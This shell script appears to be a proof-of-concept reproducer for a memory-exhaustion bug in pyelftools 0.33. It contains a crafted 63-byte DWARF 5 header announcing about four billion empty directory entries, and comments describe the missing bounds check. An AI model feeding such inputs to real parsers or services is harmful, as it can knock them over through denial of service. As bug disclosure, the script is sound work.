#!/bin/sh
# pyelftools 0.33: a line program of DWARF 5 whose header announces 4294967295 directories, described by no forms, so that each
# takes no bytes, makes it build an object for each: 31 bytes of header use as much memory as there is. Here it may have 1 GiB.
# Readers must compare a count with the bytes that are left, and count entries of no bytes.
set -eu
dir=$(mktemp -d); trap 'rm -rf "$dir"' EXIT
python3 -m venv "$dir/venv"
"$dir/venv/bin/pip" install -qq --disable-pip-version-check pyelftools==0.33
cat >"$dir/show.py" <<'P'
import inspect
import io
import os
import resource
import struct

from elftools.dwarf.dwarfinfo import DebugSectionDescriptor, DwarfConfig, DWARFInfo

header = bytes([1, 1, 1, 251, 14, 13, 0, 1, 1, 1, 1, 0, 0, 0, 1, 0, 0, 1])
header += b"\0" + b"\xff\xff\xff\xff\x0f" + b"\0\0"  # no forms, 4294967295 directories; no forms, no files
lines = struct.pack("<HBBI", 5, 4, 0, len(header)) + header
lines = struct.pack("<I", len(lines)) + lines
unit = struct.pack("<HBBI", 5, 1, 4, 0) + b"\1" + struct.pack("<I", 0)
found = {
    "debug_info_sec": struct.pack("<I", len(unit)) + unit,
    "debug_abbrev_sec": bytes([1, 0x11, 0, 0x10, 0x17, 0, 0, 0]),
    "debug_line_sec": lines,
}
names = [name for name in inspect.signature(DWARFInfo.__init__).parameters if name.endswith("_sec")]
sections = {
    name: DebugSectionDescriptor(io.BytesIO(found[name]), name, 0, len(found[name]), 0) if name in found else None
    for name in names
}
told = DWARFInfo(config=DwarfConfig(little_endian=True, default_address_size=4, machine_arch="wasm"), **sections)
said = b"%d bytes of DWARF: out of memory, of which there was 1 GiB\n" % sum(map(len, found.values()))
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
try:
    for each in told.iter_CUs():
        told.line_program_for_CU(each)
except BaseException as error:  # what is raised while there is no memory is raised again as this and that
    seen = error
    while seen is not None and not isinstance(seen, MemoryError):
        seen = seen.__context__
    if seen is not None:
        os.write(1, said)
        os._exit(0)
print("this has changed")
os._exit(1)
P
"$dir/venv/bin/python" "$dir/show.py" 2>/dev/null
# Seen, 2026-11-29:
#   63 bytes of DWARF: out of memory, of which there was 1 GiB
